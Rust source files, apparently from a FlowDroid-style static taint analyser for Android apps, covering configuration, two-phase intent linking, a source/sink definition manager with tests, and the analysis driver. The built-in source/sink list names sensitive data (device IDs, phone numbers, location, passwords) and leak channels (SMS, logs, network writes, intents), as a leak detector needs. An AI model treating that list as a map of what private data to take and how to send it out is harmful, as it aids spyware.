    /// Method bodies the demand-driven frontend has decoded so far.
    pub bodies_materialized: u64,
    /// Summary-cache hits so far.
    pub summary_hits: u64,
    /// Leaks recorded so far (pre-dedup lower bound; the final report
    /// dedups by sink/source).
    pub leaks: u64,
    /// Set when this event announces a newly recorded leak:
    /// `(sink line, taint description)`.
    pub new_leak: Option<(u32, String)>,
}

/// A shared callback receiving [`ProgressEvent`]s during a solve.
#[derive(Clone)]
pub struct ProgressSink(pub Arc<dyn Fn(&ProgressEvent) + Send + Sync>);

impl ProgressSink {
    /// Wraps a callback.
    pub fn new(f: impl Fn(&ProgressEvent) + Send + Sync + 'static) -> Self {
        ProgressSink(Arc::new(f))
    }

    /// Delivers one event.
    pub fn emit(&self, event: &ProgressEvent) {
        (self.0)(event);
    }
}

impl fmt::Debug for ProgressSink {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("ProgressSink(..)")
    }
}

/// Configuration of the taint analysis.
///
/// The defaults match the paper's configuration (access-path length 5,
/// on-demand alias analysis with context injection and activation
/// statements, per-component callbacks). The switches exist for the
/// ablation experiments.
#[derive(Clone, Debug)]
pub struct InfoflowConfig {
    /// Maximal number of fields in an access path (paper default: 5).
    pub max_access_path_length: usize,
    /// Run the on-demand backward alias analysis (§4.2). Disabling it
    /// misses aliased flows.
    pub enable_alias_analysis: bool,
    /// Inject the forward path-edge context into spawned alias
    /// searches (§4.2, Figure 3). Disabling reproduces the "naive
    /// handover" false positives of Listing 2.
    pub enable_context_injection: bool,
    /// Track activation statements for alias taints (§4.2, Listing 3).
    /// Disabling makes alias results flow-insensitive (Andromeda-style
    /// false positives).
    pub enable_activation_statements: bool,
    /// Fallback for body-less calls without a wrapper rule: taint the
    /// return value if the receiver or any argument is tainted (the
    /// paper's native-call default).
    pub stub_default_taints_return: bool,
    /// Record predecessor links for leak-path reconstruction (§5:
    /// "reports include full path information").
    pub track_paths: bool,
    /// Call-graph construction algorithm.
    pub cg_algorithm: CgAlgorithm,
    /// How callbacks are associated with components (§3).
    pub callback_association: CallbackAssociation,
    /// Hard cap on forward path-edge propagations (0 = unlimited);
    /// protects harness runs against pathological inputs.
    pub max_propagations: u64,
    /// Hash-cons facts and access paths into `u32` ids so the solver
    /// tables key on `Copy` ids (default). Disabling keys tables on
    /// whole facts instead; results are identical, only speed and
    /// memory differ (kept for the benchmark comparison).
    pub intern_facts: bool,
    /// Store interned fact sets as bitset rows (hybrid sparse/dense,
    /// default) instead of nested hash maps in the tabulation tables.
    /// Requires `intern_facts` (id keys); ignored without it. Results
    /// are identical either way — the toggle exists for one release so
    /// the representations can be compared on identical inputs.
    pub bitset_tables: bool,
    /// Worker threads for the parallel bidirectional taint engine.
    /// `0` (default) runs the sequential solver; `n > 0` runs forward
    /// and backward propagation as interleaved jobs over a work-stealing
    /// scheduler with `n` workers. Results are bit-identical to the
    /// sequential solver at any thread count.
    pub taint_threads: usize,
    /// Directory of the persistent end-summary store. When set, both
    /// taint engines consult the store before tabulating a callee
    /// (skipping the body when a summary computed under the same
    /// transitive code fingerprint exists) and record freshly computed
    /// summaries for the next run. `None` (default) disables caching.
    /// Staged summaries reach disk only via
    /// [`crate::flush_summary_cache`].
    pub summary_cache: Option<PathBuf>,
    /// Cache namespace inside the summary store. Namespaces key
    /// disjoint stores in one cache directory, so tenants sharing a
    /// daemon never observe each other's summaries. `""` (default) is
    /// the shared default namespace (the historical flat layout).
    /// Deliberately excluded from the configuration fingerprint —
    /// isolation comes from separate stores, not separate contexts.
    pub cache_namespace: String,
    /// Progress sink for streaming partial results; see
    /// [`ProgressSink`]. `None` (default) emits nothing.
    pub progress: Option<ProgressSink>,
    /// Cooperative abort token (wall-clock deadline and/or external
    /// cancel). Both taint engines poll it at a bounded interval; when
    /// it trips, the run winds down and returns a partial result marked
    /// `aborted` with the tripping [`flowdroid_ifds::AbortReason`], and
    /// never stages summary-cache entries. `None` (default) means the
    /// run can only abort via `max_propagations`.
    pub abort: Option<AbortHandle>,
    /// Load app code through the demand-driven frontend: SDEX method
    /// bodies are indexed but not decoded at load time, and only the
    /// bodies the callgraph closure reaches are materialized (see
    /// [`flowdroid_frontend::App::from_archive_lazy`]). Leak reports are
    /// byte-identical to eager loading; only load cost shifts. `false`
    /// (default) decodes everything up front.
    pub lazy_frontend: bool,
}

impl Default for InfoflowConfig {
    fn default() -> Self {
        InfoflowConfig {
            max_access_path_length: 5,
            enable_alias_analysis: true,
            enable_context_injection: true,
            enable_activation_statements: true,
            stub_default_taints_return: true,
            track_paths: true,
            cg_algorithm: CgAlgorithm::Cha,
            callback_association: CallbackAssociation::PerComponent,
            max_propagations: 0,
            intern_facts: true,
            bitset_tables: true,
            taint_threads: 0,
            summary_cache: None,
            cache_namespace: String::new(),
            progress: None,
            abort: None,
            lazy_frontend: false,
        }
    }
}

impl InfoflowConfig {
    /// The paper's default configuration.
    pub fn paper_defaults() -> Self {
        Self::default()
    }

    /// Builder-style setter for the access-path bound.
    pub fn with_access_path_length(mut self, k: usize) -> Self {
        self.max_access_path_length = k;
        self
    }

    /// Builder-style setter for the alias analysis switch.
    pub fn with_alias_analysis(mut self, on: bool) -> Self {
        self.enable_alias_analysis = on;
        self
    }

    /// Builder-style setter for context injection (naive-handover
    /// ablation when `false`).
    pub fn with_context_injection(mut self, on: bool) -> Self {
        self.enable_context_injection = on;
        self
    }

    /// Builder-style setter for activation statements (flow-insensitive
    /// aliasing ablation when `false`).
    pub fn with_activation_statements(mut self, on: bool) -> Self {
        self.enable_activation_statements = on;
        self
    }

    /// Builder-style setter for callback association.
    pub fn with_callback_association(mut self, a: CallbackAssociation) -> Self {
        self.callback_association = a;
        self
    }

    /// Builder-style setter for fact interning.
    pub fn with_fact_interning(mut self, on: bool) -> Self {
        self.intern_facts = on;
        self
    }

    /// Builder-style setter for bitset-backed tabulation tables.
    pub fn with_bitset_tables(mut self, on: bool) -> Self {
        self.bitset_tables = on;
        self
    }

    /// Builder-style setter for the parallel taint worker count
    /// (0 = sequential).
    pub fn with_taint_threads(mut self, threads: usize) -> Self {
        self.taint_threads = threads;
        self
    }

    /// Builder-style setter for the persistent summary-cache directory.
    pub fn with_summary_cache(mut self, dir: impl Into<PathBuf>) -> Self {
        self.summary_cache = Some(dir.into());
        self
    }

    /// Builder-style setter for the summary-cache namespace.
    pub fn with_cache_namespace(mut self, ns: impl Into<String>) -> Self {
        self.cache_namespace = ns.into();
        self
    }

    /// Builder-style setter for the streaming progress sink.
    pub fn with_progress(mut self, sink: ProgressSink) -> Self {
        self.progress = Some(sink);
        self
    }

    /// Builder-style setter for the cooperative abort token.
    pub fn with_abort(mut self, handle: AbortHandle) -> Self {
        self.abort = Some(handle);
        self
    }

    /// Builder-style convenience: install a fresh abort handle tripping
    /// after `budget` of wall-clock time (measured from this call).
    pub fn with_deadline(self, budget: Duration) -> Self {
        self.with_abort(AbortHandle::with_deadline(budget))
    }

    /// Builder-style setter for the demand-driven frontend.
    pub fn with_lazy_frontend(mut self, on: bool) -> Self {
        self.lazy_frontend = on;
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults_match_paper() {
        let c = InfoflowConfig::default();
        assert_eq!(c.max_access_path_length, 5);
        assert!(c.enable_alias_analysis);
        assert!(c.enable_context_injection);
        assert!(c.enable_activation_statements);
    }

    #[test]
    fn builders_chain() {
        let c = InfoflowConfig::default()
            .with_access_path_length(3)
            .with_alias_analysis(false)
            .with_context_injection(false)
            .with_activation_statements(false);
        assert_eq!(c.max_access_path_length, 3);
        assert!(!c.enable_alias_analysis);
        assert!(!c.enable_context_injection);
        assert!(!c.enable_activation_statements);
    }
}
