//! Inter-component communication (ICC) linking — the paper's declared
//! future work ("we are working on integrating FLOWDROID with EPICC …
//! to resolve inter-app communication more precisely", §5).
//!
//! The paper's shipped model over-approximates: *every* intent send is
//! a sink and *every* intent reception is a source, so a component that
//! merely reads its incoming intent produces a warning even when no
//! tainted intent can ever reach it. This module implements the linked
//! mode:
//!
//! 1. **Phase 1** analyzes the app with intent *reception disabled* as
//!    a source. Intent sends remain sinks; the phase records whether
//!    any *tainted* intent is actually sent.
//! 2. **Phase 2** runs only if phase 1 found tainted sends: intent
//!    reception is re-enabled as a source (the tainted payload may
//!    arrive at any in-app component — we link conservatively, without
//!    EPICC's string analysis), and the additional leaks are reported
//!    as *ICC-linked*.
//!
//! Compared to the paper's model this removes the IntentSink-style
//! false positives in apps that never send tainted intents, while
//! preserving every real cross-component flow.

use crate::analysis::Infoflow;
use crate::config::InfoflowConfig;
use crate::results::{InfoflowResults, Leak};
use crate::sourcesink::SourceSinkManager;
use crate::wrappers::TaintWrapper;
use flowdroid_android::PlatformInfo;
use flowdroid_frontend::App;
use flowdroid_ir::{Program, Stmt};

/// Source/sink entries that model intent *reception* (stripped in
/// phase 1, restored in phase 2).
const RECEPTION_DEFS: &str = "\
<android.content.BroadcastReceiver: void onReceive(android.content.Context,android.content.Intent)> -> _SOURCE_PARAM_1_\n\
<android.app.Activity: android.content.Intent getIntent()> -> _SOURCE_\n";

/// Signatures of intent-send sinks (used to classify phase-1 leaks).
const SEND_METHODS: &[&str] = &["startActivity", "sendBroadcast", "startService"];

/// The result of an ICC-linked analysis.
#[derive(Debug)]
pub struct IccResults {
    /// Leaks found without assuming tainted intent reception
    /// (intra-component flows plus tainted sends).
    pub direct: InfoflowResults,
    /// Additional leaks only reachable through a received intent,
    /// present when phase 1 proved a tainted intent is actually sent.
    pub icc_linked: Vec<Leak>,
    /// Whether phase 2 ran (a tainted intent send exists).
    pub tainted_send_exists: bool,
}

impl IccResults {
    /// Total number of reported leaks across both phases.
    pub fn leak_count(&self) -> usize {
        self.direct.leak_count() + self.icc_linked.len()
    }
}

/// Returns `true` if the leak's sink is an intent-send API.
pub fn is_intent_send(program: &Program, leak: &Leak) -> bool {
    let Some(body) = program.method(leak.sink.method).body() else { return false };
    let Stmt::Invoke { call, .. } = body.stmt(leak.sink.idx) else { return false };
    let name = program.str(call.callee.subsig.name);
    SEND_METHODS.contains(&name)
}

/// Runs the two-phase linked ICC analysis.
///
/// `sources` should be a full source/sink configuration *including* the
/// reception entries (e.g. [`SourceSinkManager::default_android`]);
/// phase 1 strips them internally.
pub fn analyze_app_linked(
    program: &mut Program,
    platform: &PlatformInfo,
    app: &App,
    sources: &SourceSinkManager,
    wrapper: &TaintWrapper,
    config: &InfoflowConfig,
    tag: &str,
) -> IccResults {
    // Phase 1: reception is not a source.
    let phase1_sources = sources.clone_without(RECEPTION_DEFS);
    let infoflow = Infoflow::new(&phase1_sources, wrapper, config);
    let phase1 = infoflow.analyze_app(program, platform, app, &format!("{tag}_icc1"));
    let tainted_send_exists = phase1
        .results
        .leaks
        .iter()
        .any(|l| is_intent_send(program, l));

    if !tainted_send_exists {
        return IccResults {
            direct: phase1.results,
            icc_linked: Vec::new(),
            tainted_send_exists: false,
        };
    }

    // Phase 2: a tainted intent is really sent — link it (conservatively,
    // to every in-app receiver) by re-enabling reception sources.
    let infoflow = Infoflow::new(sources, wrapper, config);
    let phase2 = infoflow.analyze_app(program, platform, app, &format!("{tag}_icc2"));
    // Compare by (sink, source): the propagation paths go through
    // differently-tagged dummy mains and are not comparable.
    let icc_linked: Vec<Leak> = phase2
        .results
        .leaks
        .into_iter()
        .filter(|l| {
            !phase1
                .results
                .leaks
                .iter()
                .any(|p| p.sink == l.sink && p.source == l.source)
        })
        .collect();
    IccResults { direct: phase1.results, icc_linked, tainted_send_exists: true }
}

impl SourceSinkManager {
    /// A copy of this manager with the given definition lines removed.
    pub fn clone_without(&self, defs: &str) -> SourceSinkManager {
        let mut m = self.clone();
        m.remove_definitions(defs);
        m
    }
}
