//! Sources and sinks (SuSi-style lists, paper §5) plus UI-based sources.
//!
//! The manager is configured from a simple textual format, one entry
//! per line:
//!
//! ```text
//! <android.telephony.TelephonyManager: java.lang.String getDeviceId()> -> _SOURCE_
//! <android.location.LocationListener: void onLocationChanged(android.location.Location)> -> _SOURCE_PARAM_0_
//! <android.telephony.SmsManager: void sendTextMessage(...)> -> _SINK_
//! <android.util.Log: int i(java.lang.String,java.lang.String)> -> _SINK_PARAM_1_
//! ```
//!
//! * `_SOURCE_` — the call's return value is tainted;
//! * `_SOURCE_PARAM_i_` — parameter `i` of any method *overriding* this
//!   signature is tainted at method entry (framework-invoked callbacks:
//!   location updates, received intents, …);
//! * `_SINK_` / `_SINK_PARAM_i_` — tainted data reaching (specific)
//!   arguments of the call leaks;
//! * `_SANITIZER_` — the call's return value is clean even when its
//!   arguments are tainted (an extension beyond the paper, which lacked
//!   sanitizer support).
//!
//! UI sources (password fields) cannot be expressed as signatures: they
//! are detected as `findViewById(<id>)` calls whose constant id names a
//! password widget in a layout file (paper §2, §5).

use flowdroid_ir::{ClassId, Constant, InvokeExpr, MethodId, Operand, Program, SubSig};
use std::collections::{HashMap, HashSet};
use std::fmt;

/// A parse error for source/sink definition text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SourceSinkParseError {
    /// Description.
    pub message: String,
    /// 1-based line.
    pub line: usize,
}

impl fmt::Display for SourceSinkParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "source/sink definition error at line {}: {}", self.line, self.message)
    }
}

impl std::error::Error for SourceSinkParseError {}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    SourceReturn,
    SourceParam(usize),
    SinkAll,
    SinkParam(usize),
    Sanitizer,
}

/// The default Android source/sink definitions used by the app
/// pipeline. Mirrors the relevant subset of the SuSi-derived lists the
/// paper ships: identifiers and location as sources; SMS, logs,
/// network, preferences and intent sending as sinks; intent reception
/// as a source.
pub const DEFAULT_ANDROID_DEFS: &str = r#"
# --- sources: unique identifiers and sensors ---
<android.telephony.TelephonyManager: java.lang.String getDeviceId()> -> _SOURCE_
<android.telephony.TelephonyManager: java.lang.String getSimSerialNumber()> -> _SOURCE_
<android.telephony.TelephonyManager: java.lang.String getLine1Number()> -> _SOURCE_
<android.location.Location: double getLatitude()> -> _SOURCE_
<android.location.Location: double getLongitude()> -> _SOURCE_
<android.location.LocationManager: android.location.Location getLastKnownLocation(java.lang.String)> -> _SOURCE_
# --- sources: framework-delivered callback data ---
<android.location.LocationListener: void onLocationChanged(android.location.Location)> -> _SOURCE_PARAM_0_
<android.content.BroadcastReceiver: void onReceive(android.content.Context,android.content.Intent)> -> _SOURCE_PARAM_1_
# --- sources: intent reception (paper: receiving intents is a source) ---
<android.app.Activity: android.content.Intent getIntent()> -> _SOURCE_
# --- sinks: SMS, logging, network, preferences ---
<android.telephony.SmsManager: void sendTextMessage(java.lang.String,java.lang.String,java.lang.String,java.lang.Object,java.lang.Object)> -> _SINK_PARAM_2_
<android.util.Log: int i(java.lang.String,java.lang.String)> -> _SINK_PARAM_1_
<android.util.Log: int d(java.lang.String,java.lang.String)> -> _SINK_PARAM_1_
<android.util.Log: int e(java.lang.String,java.lang.String)> -> _SINK_PARAM_1_
<android.util.Log: int v(java.lang.String,java.lang.String)> -> _SINK_PARAM_1_
<android.util.Log: int w(java.lang.String,java.lang.String)> -> _SINK_PARAM_1_
<java.io.OutputStream: void write(java.lang.String)> -> _SINK_
<android.content.SharedPreferences$Editor: android.content.SharedPreferences$Editor putString(java.lang.String,java.lang.String)> -> _SINK_PARAM_1_
# --- sinks: intent sending (paper: sending intents is a sink) ---
<android.content.Context: void sendBroadcast(android.content.Intent)> -> _SINK_
<android.content.Context: void startActivity(android.content.Intent)> -> _SINK_
<android.content.Context: void startService(android.content.Intent)> -> _SINK_
"#;

/// Builds the canonical signature string for a subsignature on a named
/// class: `<cls: ret name(p1,p2)>`.
pub fn sig_string(program: &Program, class_name: &str, subsig: &SubSig) -> String {
    let params: Vec<String> = subsig.params.iter().map(|t| program.type_name(t)).collect();
    format!(
        "<{}: {} {}({})>",
        class_name,
        program.type_name(&subsig.ret),
        program.str(subsig.name),
        params.join(",")
    )
}

/// All signature strings a method reference can match: its declared
/// class and every transitive superclass / interface (sources are often
/// declared on framework base types).
pub fn matching_sigs(program: &Program, class: ClassId, subsig: &SubSig) -> Vec<String> {
    let mut out = Vec::new();
    let mut seen = HashSet::new();
    let mut stack = vec![class];
    while let Some(c) = stack.pop() {
        if !seen.insert(c) {
            continue;
        }
        out.push(sig_string(program, program.class_name(c), subsig));
        let cd = program.class(c);
        if let Some(s) = cd.superclass() {
            stack.push(s);
        }
        stack.extend(cd.interfaces().iter().copied());
    }
    out
}

/// The source/sink manager.
#[derive(Debug, Default, Clone)]
pub struct SourceSinkManager {
    roles: HashMap<String, Vec<Role>>,
    /// Widget ids whose `findViewById` lookups return sensitive views
    /// (password fields).
    password_ids: HashSet<i64>,
}

impl SourceSinkManager {
    /// An empty manager (no sources, no sinks).
    pub fn new() -> Self {
        Self::default()
    }

    /// Parses definitions from the textual format.
    ///
    /// # Errors
    ///
    /// Returns [`SourceSinkParseError`] on malformed lines.
    pub fn parse(text: &str) -> Result<SourceSinkManager, SourceSinkParseError> {
        let mut m = SourceSinkManager::new();
        m.add_definitions(text)?;
        Ok(m)
    }

    /// The default Android configuration.
    pub fn default_android() -> SourceSinkManager {
        Self::parse(DEFAULT_ANDROID_DEFS).expect("built-in definitions parse")
    }

    /// Adds definitions from the textual format to this manager.
    ///
    /// # Errors
    ///
    /// Returns [`SourceSinkParseError`] on malformed lines.
    pub fn add_definitions(&mut self, text: &str) -> Result<(), SourceSinkParseError> {
        for (i, raw) in text.lines().enumerate() {
            let line = raw.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let err = |message: String| SourceSinkParseError { message, line: i + 1 };
            let Some((sig, role)) = line.rsplit_once("->") else {
                return Err(err("expected `<sig> -> _ROLE_`".to_owned()));
            };
            let sig = sig.trim().to_owned();
            if !sig.starts_with('<') || !sig.ends_with('>') {
                return Err(err(format!("malformed signature `{sig}`")));
            }
            let role = match role.trim() {
                "_SOURCE_" => Role::SourceReturn,
                "_SINK_" => Role::SinkAll,
                "_SANITIZER_" => Role::Sanitizer,
                other => {
                    if let Some(rest) = other
                        .strip_prefix("_SOURCE_PARAM_")
                        .and_then(|r| r.strip_suffix('_'))
                    {
                        Role::SourceParam(
                            rest.parse().map_err(|_| err(format!("bad param index `{rest}`")))?,
                        )
                    } else if let Some(rest) =
                        other.strip_prefix("_SINK_PARAM_").and_then(|r| r.strip_suffix('_'))
                    {
                        Role::SinkParam(
                            rest.parse().map_err(|_| err(format!("bad param index `{rest}`")))?,
                        )
                    } else {
                        return Err(err(format!("unknown role `{other}`")));
                    }
                }
            };
            self.roles.entry(sig).or_default().push(role);
        }
        Ok(())
    }

    /// Removes definitions (same textual format as
    /// [`SourceSinkManager::add_definitions`]); unknown entries are
    /// ignored. Used by the linked ICC mode to strip intent-reception
    /// sources for its first phase.
    pub fn remove_definitions(&mut self, text: &str) {
        if let Ok(other) = SourceSinkManager::parse(text) {
            for (sig, roles) in other.roles {
                if let Some(mine) = self.roles.get_mut(&sig) {
                    mine.retain(|r| !roles.contains(r));
                    if mine.is_empty() {
                        self.roles.remove(&sig);
                    }
                }
            }
        }
    }

    /// Registers a widget id as a password field.
    pub fn add_password_id(&mut self, id: i64) {
        self.password_ids.insert(id);
    }

    /// Number of password ids registered.
    pub fn password_id_count(&self) -> usize {
        self.password_ids.len()
    }

    fn roles_of_call<'a>(&'a self, program: &Program, call: &InvokeExpr) -> Vec<&'a Role> {
        let mut out = Vec::new();
        for sig in matching_sigs(program, call.callee.class, &call.callee.subsig) {
            if let Some(rs) = self.roles.get(&sig) {
                out.extend(rs.iter());
            }
        }
        out
    }

    /// Returns `true` if the call's return value is a source (including
    /// password-field `findViewById` lookups).
    pub fn is_source_call(&self, program: &Program, call: &InvokeExpr) -> bool {
        if self
            .roles_of_call(program, call)
            .iter()
            .any(|r| matches!(r, Role::SourceReturn))
        {
            return true;
        }
        self.is_password_lookup(program, call)
    }

    fn is_password_lookup(&self, program: &Program, call: &InvokeExpr) -> bool {
        if self.password_ids.is_empty() {
            return false;
        }
        let name = program.str(call.callee.subsig.name);
        if name != "findViewById" {
            return false;
        }
        matches!(
            call.args.first(),
            Some(Operand::Const(Constant::Int(id))) if self.password_ids.contains(id)
        )
    }

    /// Returns `true` if the call is a registered sanitizer: its return
    /// value is clean regardless of argument taint. (An extension beyond
    /// the paper, which notes that "FlowDroid does not support
    /// sanitization at the moment".)
    pub fn is_sanitizer_call(&self, program: &Program, call: &InvokeExpr) -> bool {
        self.roles_of_call(program, call)
            .iter()
            .any(|r| matches!(r, Role::Sanitizer))
    }

    /// The argument positions whose taint leaks if this call is a sink
    /// (empty = not a sink).
    pub fn sink_args(&self, program: &Program, call: &InvokeExpr) -> Vec<usize> {
        let mut out = Vec::new();
        for r in self.roles_of_call(program, call) {
            match r {
                Role::SinkAll => {
                    out.extend(0..call.args.len());
                }
                Role::SinkParam(i) => out.push(*i),
                _ => {}
            }
        }
        out.sort_unstable();
        out.dedup();
        out
    }

    /// Parameter indices of `method` tainted at entry because the
    /// method overrides a `_SOURCE_PARAM_i_` signature.
    pub fn entry_param_sources(&self, program: &Program, method: MethodId) -> Vec<usize> {
        let m = program.method(method);
        let mut out = Vec::new();
        for sig in matching_sigs(program, m.class(), m.subsig()) {
            if let Some(rs) = self.roles.get(&sig) {
                for r in rs {
                    if let Role::SourceParam(i) = r {
                        out.push(*i);
                    }
                }
            }
        }
        out.sort_unstable();
        out.dedup();
        out
    }

    /// A stable hash of the configured definitions, independent of map
    /// iteration order. Part of the summary cache's context hash:
    /// summaries computed under different source/sink lists must not be
    /// shared.
    pub fn fingerprint(&self) -> u64 {
        let mut entries: Vec<String> =
            self.roles.iter().map(|(sig, roles)| format!("{sig}:{roles:?}")).collect();
        entries.sort_unstable();
        let mut ids: Vec<i64> = self.password_ids.iter().copied().collect();
        ids.sort_unstable();
        flowdroid_ir::fxhash64(&(entries, ids))
    }

    /// Number of configured signature entries.
    pub fn len(&self) -> usize {
        self.roles.len()
    }

    /// Returns `true` if no definitions are configured.
    pub fn is_empty(&self) -> bool {
        self.roles.is_empty() && self.password_ids.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_android::install_platform;
    use flowdroid_ir::{MethodBuilder, Type};

    fn call_expr(
        p: &mut Program,
        kind: flowdroid_ir::InvokeKind,
        class: &str,
        name: &str,
        params: Vec<Type>,
        ret: Type,
        nargs: usize,
    ) -> InvokeExpr {
        let tmp_name = format!("Tmp${class}${name}");
        let c = p.declare_class(&tmp_name, None, &[]);
        let mut b = MethodBuilder::new_static_on(p, c, "tmp", vec![], Type::Void);
        let base = if kind == flowdroid_ir::InvokeKind::Static {
            None
        } else {
            let t = b.program().ref_type(class);
            Some(b.local("base", t))
        };
        let args = (0..nargs)
            .map(|_| Operand::Const(Constant::Null))
            .collect();
        let e = b.invoke_expr(kind, base, class, name, params, ret, args);
        b.finish();
        e
    }

    #[test]
    fn default_android_parses() {
        let m = SourceSinkManager::default_android();
        assert!(m.len() > 10);
        assert!(!m.is_empty());
    }

    #[test]
    fn source_and_sink_classification() {
        let mut p = Program::new();
        install_platform(&mut p);
        let m = SourceSinkManager::default_android();
        let s = p.ref_type("java.lang.String");
        let src = call_expr(
            &mut p,
            flowdroid_ir::InvokeKind::Virtual,
            "android.telephony.TelephonyManager",
            "getDeviceId",
            vec![],
            s.clone(),
            0,
        );
        assert!(m.is_source_call(&p, &src));
        let snk = call_expr(
            &mut p,
            flowdroid_ir::InvokeKind::Static,
            "android.util.Log",
            "i",
            vec![s.clone(), s.clone()],
            Type::Int,
            2,
        );
        assert_eq!(m.sink_args(&p, &snk), vec![1]);
        let not = call_expr(
            &mut p,
            flowdroid_ir::InvokeKind::Virtual,
            "java.lang.String",
            "concat",
            vec![s.clone()],
            s,
            1,
        );
        assert!(!m.is_source_call(&p, &not));
        assert!(m.sink_args(&p, &not).is_empty());
    }

    #[test]
    fn sink_matching_walks_supers() {
        // startActivity is declared on Context; calls through Activity
        // must match.
        let mut p = Program::new();
        install_platform(&mut p);
        let m = SourceSinkManager::default_android();
        let intent = p.ref_type("android.content.Intent");
        let snk = call_expr(
            &mut p,
            flowdroid_ir::InvokeKind::Virtual,
            "android.app.Activity",
            "startActivity",
            vec![intent],
            Type::Void,
            1,
        );
        assert_eq!(m.sink_args(&p, &snk), vec![0]);
    }

    #[test]
    fn entry_param_sources_via_override() {
        let mut p = Program::new();
        install_platform(&mut p);
        let m = SourceSinkManager::default_android();
        let cls = p.declare_class(
            "my.Listener",
            Some("java.lang.Object"),
            &["android.location.LocationListener"],
        );
        let loc = p.ref_type("android.location.Location");
        let mb = MethodBuilder::new_instance(&mut p, cls, "onLocationChanged", vec![loc], Type::Void);
        let mid = mb.finish();
        assert_eq!(m.entry_param_sources(&p, mid), vec![0]);
        // A receiver's onReceive taints its intent parameter.
        let rc = p.declare_class("my.Rc", Some("android.content.BroadcastReceiver"), &[]);
        let ctx = p.ref_type("android.content.Context");
        let it = p.ref_type("android.content.Intent");
        let mb = MethodBuilder::new_instance(&mut p, rc, "onReceive", vec![ctx, it], Type::Void);
        let mid = mb.finish();
        assert_eq!(m.entry_param_sources(&p, mid), vec![1]);
    }

    #[test]
    fn password_field_lookup_is_a_source() {
        let mut p = Program::new();
        install_platform(&mut p);
        let mut m = SourceSinkManager::default_android();
        m.add_password_id(0x7f08_0001);
        let c = p.declare_class("Tmp", None, &[]);
        let mut b = MethodBuilder::new_static_on(&mut p, c, "t", vec![], Type::Void);
        let at = b.program().ref_type("android.app.Activity");
        let a = b.local("a", at);
        let vt = b.program().ref_type("android.view.View");
        let pw = b.invoke_expr(
            flowdroid_ir::InvokeKind::Virtual,
            Some(a),
            "android.app.Activity",
            "findViewById",
            vec![Type::Int],
            vt.clone(),
            vec![Operand::Const(Constant::Int(0x7f08_0001))],
        );
        let other = b.invoke_expr(
            flowdroid_ir::InvokeKind::Virtual,
            Some(a),
            "android.app.Activity",
            "findViewById",
            vec![Type::Int],
            vt,
            vec![Operand::Const(Constant::Int(0x7f08_0002))],
        );
        b.finish();
        assert!(m.is_source_call(&p, &pw));
        assert!(!m.is_source_call(&p, &other));
    }

    #[test]
    fn parse_errors_are_reported() {
        assert!(SourceSinkManager::parse("garbage").is_err());
        assert!(SourceSinkManager::parse("<a: void b()> -> _WAT_").is_err());
        assert!(SourceSinkManager::parse("<a: void b()> -> _SINK_PARAM_x_").is_err());
        assert!(SourceSinkManager::parse("# comment only\n").unwrap().is_empty());
    }
}
