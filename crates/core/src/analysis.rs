//! Top-level analysis entry points.
//!
//! [`Infoflow`] runs the taint analysis on arbitrary programs with
//! explicit entry points (the SecuriBench use case, paper §6.4);
//! [`Infoflow::analyze_app`] runs the full Android pipeline of Figure 4:
//! parse app artifacts → build the entry-point model (lifecycle +
//! callbacks) → generate the dummy main → build the call graph → run the
//! bidirectional taint analysis.

use crate::cg_cache::{CachedSetup, CgCache};
use crate::config::InfoflowConfig;
use crate::intern::{DirectDomain, InternedDomain, InternedHashDomain, SharedInternedKeys};
use crate::par_solver::ParBiSolver;
use crate::results::InfoflowResults;
use crate::solver::BiSolver;
use crate::sourcesink::SourceSinkManager;
use crate::wrappers::TaintWrapper;
use flowdroid_android::{generate_dummy_main, EntryPointModel, PlatformInfo};
use flowdroid_callgraph::{materialize_reachable, CallGraph, Hierarchy, Icfg};
use flowdroid_frontend::App;
use flowdroid_ir::{MethodId, Program};
use std::sync::Arc;

/// The analysis driver.
///
/// # Example
///
/// ```
/// use flowdroid_core::{Infoflow, InfoflowConfig, SourceSinkManager, TaintWrapper};
/// use flowdroid_ir::{MethodBuilder, Program, Type};
///
/// let mut p = Program::new();
/// let env = p.declare_class("Env", None, &[]);
/// let s = p.ref_type("java.lang.String");
/// let src = p.declare_method(env, "source", vec![], s.clone(), true);
/// p.set_native(src, true);
/// let snk = p.declare_method(env, "sink", vec![s.clone()], Type::Void, true);
/// p.set_native(snk, true);
///
/// let c = p.declare_class("Main", None, &[]);
/// let mut b = MethodBuilder::new_static_on(&mut p, c, "main", vec![], Type::Void);
/// let x = b.local("x", s.clone());
/// b.call_static(Some(x), "Env", "source", vec![], s.clone(), vec![]);
/// b.call_static(None, "Env", "sink", vec![s.clone()], Type::Void, vec![x.into()]);
/// let main = b.finish();
///
/// let sources = SourceSinkManager::parse(
///     "<Env: java.lang.String source()> -> _SOURCE_\n<Env: void sink(java.lang.String)> -> _SINK_",
/// ).unwrap();
/// let wrapper = TaintWrapper::default_rules();
/// let config = InfoflowConfig::default();
/// let infoflow = Infoflow::new(&sources, &wrapper, &config);
/// let results = infoflow.run(&p, &[main]);
/// assert_eq!(results.leak_count(), 1);
/// ```
#[derive(Debug)]
pub struct Infoflow<'a> {
    sources: &'a SourceSinkManager,
    wrapper: &'a TaintWrapper,
    config: &'a InfoflowConfig,
}

impl<'a> Infoflow<'a> {
    /// Creates a driver with the given sources/sinks, wrapper rules and
    /// configuration.
    pub fn new(
        sources: &'a SourceSinkManager,
        wrapper: &'a TaintWrapper,
        config: &'a InfoflowConfig,
    ) -> Self {
        Infoflow { sources, wrapper, config }
    }

    /// Runs the analysis on `program` from the given entry methods.
    pub fn run(&self, program: &Program, entry_points: &[MethodId]) -> InfoflowResults {
        let cg = CallGraph::build(program, entry_points, self.config.cg_algorithm);
        let icfg = Icfg::new(program, &cg);
        self.solve_with_domain(icfg, self.sources, entry_points)
    }

    /// Like [`Infoflow::run`], but materializes deferred method bodies
    /// reachable from the entry points first (the demand-driven frontend
    /// path for programs loaded via
    /// [`flowdroid_frontend::App::from_archive_lazy`] or
    /// [`flowdroid_frontend::sdex::decode_lazy`]). On a fully decoded
    /// program this is exactly [`Infoflow::run`].
